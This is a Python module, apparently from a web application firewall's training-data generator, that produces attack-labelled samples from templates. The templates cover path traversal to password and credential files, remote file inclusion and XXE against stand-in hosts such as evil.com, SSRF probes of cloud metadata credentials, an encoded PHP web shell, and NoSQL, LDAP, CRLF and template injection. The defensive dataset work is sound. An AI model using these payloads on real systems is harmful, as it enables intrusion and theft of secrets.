"""Other attacks (label "attack"): traversal/LFI, RFI, SSRF, XXE, LDAP/NoSQL/CRLF injection, SSTI probes."""

# ruff: noqa: E501

from __future__ import annotations

import random

from bastion.waf.datagen._fill import Filler, choice_filler, fill
from bastion.waf.datagen.sample import Sample, rand_word, unique_samples

_FILES = (
    "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "winnt/win.ini", "proc/self/environ",
    "var/log/apache2/access.log", "WEB-INF/web.xml", "etc/issue", "windows/system32/drivers/etc/hosts", ".env", "config.php",
)  # fmt: skip
_UPS = (
    "../",
    "..\\",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%252f",
    "....//",
    "..;/",
    "%c0%ae%c0%ae/",
    "..%c0%af",
    "%252e%252e/",
    ".%2e/",
    "..%5c",
)
_TEMPLATES = (
    # traversal / LFI
    "{up}{file}", "/{up}{file}", "{prefix}{up}{file}", "{up}{file}%00", "{up}{file}%00.jpg", "{up}{file}\x00.png",
    "php://filter/convert.base64-encode/resource={plainfile}", "php://filter/read=string.rot13/resource=index.php", "php://input",
    "file:///{plainfile}", "expect://id", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "zip://uploads/{w}.jpg%23shell.php",
    "/proc/self/fd/{n}", "c:\\windows\\win.ini", "C:/inetpub/wwwroot/web.config", "\\\\{host}\\share\\{w}",
    # RFI / SSRF / redirects
    "http://{host}/{w}.txt?", "https://{host}/shell.txt", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:{port}/admin", "http://localhost:{port}/", "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stats", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "file:///etc/passwd", "//{host}/%2e%2e",
    "http://{host}@127.0.0.1/", "https:{host}", "/\\{host}", "//{host}",
    # XXE
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///{plainfile}\">]><foo>&xxe;</foo>",
    "<!DOCTYPE x [<!ENTITY % remote SYSTEM \"http://{host}/x.dtd\">%remote;]>", "<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">",
    # LDAP / XPath / NoSQL
    "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "admin*)((|userpassword=*)",
    "{{\"$gt\": \"\"}}", "{{\"$ne\": null}}", "{{\"username\": {{\"$regex\": \".*\"}}, \"password\": {{\"$ne\": \"\"}}}}", "'; return true; var x='", "[$ne]=1",
    "{{\"$where\": \"sleep(5000)\"}}",
    # CRLF / header injection
    "%0d%0aSet-Cookie:{w}=1", "\r\nSet-Cookie: admin=true", "%0d%0aLocation:%20http://{host}", "%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK",
    "{w}%0d%0aX-Injected:%20{w}", "%E5%98%8A%E5%98%8DSet-Cookie:{w}=1",
    # template probes
    "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>", "#{{7*7}}", "*{{7*7}}", "{{{{config}}}}", "${{class.getClassLoader()}}", "{{{{self.__dict__}}}}",
    # misc scanner probes
    "/.git/config", "/.env", "/wp-config.php.bak", "/server-status", "/phpinfo.php", "/.aws/credentials", "/actuator/env",
    "/cgi-bin/test-cgi?*", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..;/manager/html",
)  # fmt: skip

_FILL: dict[str, Filler] = {
    "up": lambda r: r.choice(_UPS) * r.randint(2, 8),
    "file": choice_filler(_FILES),
    "plainfile": choice_filler(
        ("etc/passwd", "etc/hosts", "var/www/html/config.php", "proc/self/environ")
    ),
    "prefix": choice_filler(
        ("/var/www/html/", "images/", "static/", "C:\\inetpub\\", "files/", "./")
    ),
    "host": lambda r: r.choice(
        [
            "evil.com",
            "attacker.com",
            f"{rand_word(r)}.oast.me",
            "192.0.2.10",
            f"{rand_word(r)}.ngrok.io",
        ]
    ),
    "w": lambda r: rand_word(r, 3, 8),
    "n": lambda r: str(r.randint(0, 20)),
    "port": lambda r: r.choice(["22", "25", "3306", "6379", "8080", "9200", "11211", "2375"]),
}


def other_attack(rng: random.Random) -> tuple[str, str]:
    """One non-SQLi/XSS/RCE attack value and its template key."""
    idx = rng.randrange(len(_TEMPLATES))
    return fill(_TEMPLATES[idx], rng, _FILL), f"other:{idx}"


def generate_other_attacks(rng: random.Random, n: int) -> list[Sample]:
    """``n`` distinct "attack"-labelled values of other kinds (traversal, SSRF, XXE, ...)."""

    def make() -> Sample:
        value, key = other_attack(rng)
        return Sample(value, "value", "attack", "gen:attack:grammar", f"gen:attack:{key}")

    return unique_samples(make, n, max_tries_factor=10)
